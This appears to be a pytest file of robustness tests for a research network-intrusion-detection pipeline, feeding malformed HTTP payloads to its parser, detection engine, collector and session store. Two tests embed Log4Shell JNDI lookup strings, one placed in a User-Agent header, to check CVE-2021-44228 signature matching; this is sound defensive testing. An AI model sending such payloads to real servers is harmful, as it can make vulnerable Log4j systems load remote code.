"""Failure-injection tests: the pipeline must be robust to malformed,
adversarial, and degenerate inputs at every layer."""

from datetime import timedelta

import pytest

from repro.datasets.seed_cves import STUDY_WINDOW
from repro.exploits.rulegen import build_study_ruleset
from repro.net.http import parse_http_request
from repro.net.pcapstore import SessionStore
from repro.net.session import TcpSession
from repro.nids.engine import DetectionEngine
from repro.telescope.collector import DscopeCollector
from repro.traffic.arrivals import ScanArrival
from repro.util.timeutil import utc

T0 = utc(2022, 1, 1)


def _session(payload, sid=0, port=80):
    return TcpSession(
        session_id=sid, start=T0, src_ip=1, src_port=1024,
        dst_ip=2, dst_port=port, payload=payload,
    )


MALFORMED_PAYLOADS = [
    b"",                                        # empty
    b"\x00" * 1024,                             # null flood
    b"GET",                                     # truncated request line
    b"GET / HTTP/1.1",                          # no header terminator
    b"GET / HTTP/1.1\r\nHost",                  # torn header
    b"\xff\xfe" + "GET / HTTP/1.1\r\n\r\n".encode("utf-16-le"),  # UTF-16
    b"A" * 100_000,                             # oversized
    "GET /ünïcödé HTTP/1.1\r\n\r\n".encode(),   # non-ascii URI
    b"POST / HTTP/1.1\r\nContent-Length: 99999\r\n\r\nshort",  # lying CL
    b"GET " + b"/" * 5000 + b" HTTP/1.1\r\n\r\n",  # absurd URI
    b"\r\n\r\n\r\n",                            # separators only
    b"HTTP/1.1 200 OK\r\n\r\n",                 # a response, not a request
]


class TestHttpParserRobustness:
    @pytest.mark.parametrize("payload", MALFORMED_PAYLOADS,
                             ids=range(len(MALFORMED_PAYLOADS)))
    def test_never_raises(self, payload):
        # Either parses to something or returns None; never throws.
        parse_http_request(payload)


class TestEngineRobustness:
    @pytest.fixture(scope="class")
    def engine(self):
        return DetectionEngine(build_study_ruleset())

    def test_malformed_payloads_scan_cleanly(self, engine):
        sessions = [
            _session(payload, sid=index)
            for index, payload in enumerate(MALFORMED_PAYLOADS)
        ]
        alerts = engine.scan(sessions)
        # Nothing malformed matches a CVE signature.
        assert alerts == []

    def test_anchor_in_wrong_buffer_does_not_match(self, engine):
        # A Log4Shell token in a *response-shaped* payload is not a request
        # and must not alert.
        payload = b"HTTP/1.1 200 OK\r\nX-V: ${jndi:ldap://x/a}\r\n\r\n"
        assert engine.ruleset.match_session(_session(payload)) is None

    def test_exploit_token_in_user_agent_matches_header_rule(self, engine):
        # Header-buffer rules see every non-cookie header, wherever the
        # scanner hides the token.
        payload = (
            b"GET / HTTP/1.1\r\nHost: h\r\n"
            b"User-Agent: ${jndi:ldap://1.2.3.4/a}\r\n\r\n"
        )
        alert = engine.ruleset.match_session(_session(payload))
        assert alert is not None
        assert alert.cve_id == "CVE-2021-44228"


class TestCollectorRobustness:
    def test_zero_payload_arrivals_become_sessions(self):
        collector = DscopeCollector(window=STUDY_WINDOW)
        arrivals = [
            ScanArrival(
                timestamp=STUDY_WINDOW.start + timedelta(minutes=i),
                src_ip=1, src_port=1024, dst_port=80, payload=b"",
            )
            for i in range(5)
        ]
        store = collector.collect(arrivals)
        assert len(store) == 5
        # And the engine skips them without alerting.
        assert DetectionEngine(build_study_ruleset()).scan(store) == []

    def test_identical_timestamps_accepted(self):
        collector = DscopeCollector(window=STUDY_WINDOW)
        when = STUDY_WINDOW.start + timedelta(hours=1)
        arrivals = [
            ScanArrival(timestamp=when, src_ip=i + 1, src_port=1024,
                        dst_port=80, payload=b"x")
            for i in range(10)
        ]
        store = collector.collect(arrivals)
        assert len(store) == 10

    def test_extreme_ports(self):
        collector = DscopeCollector(window=STUDY_WINDOW)
        arrivals = [
            ScanArrival(
                timestamp=STUDY_WINDOW.start + timedelta(minutes=i),
                src_ip=1, src_port=port, dst_port=port, payload=b"x",
            )
            for i, port in enumerate((0, 1, 65535))
        ]
        store = collector.collect(arrivals)
        assert len(store) == 3


class TestStoreRobustness:
    def test_jsonl_load_skips_blank_lines(self, tmp_path):
        store = SessionStore()
        store.append(_session(b"x", sid=1))
        path = tmp_path / "a.jsonl"
        store.save(path)
        path.write_text(path.read_text() + "\n\n")
        assert len(SessionStore.load(path)) == 1

    def test_jsonl_garbage_raises(self, tmp_path):
        path = tmp_path / "bad.jsonl"
        path.write_text("this is not json\n")
        with pytest.raises(Exception):
            SessionStore.load(path)

    def test_between_on_empty_store(self):
        store = SessionStore()
        assert list(store.between(T0, T0 + timedelta(days=1))) == []
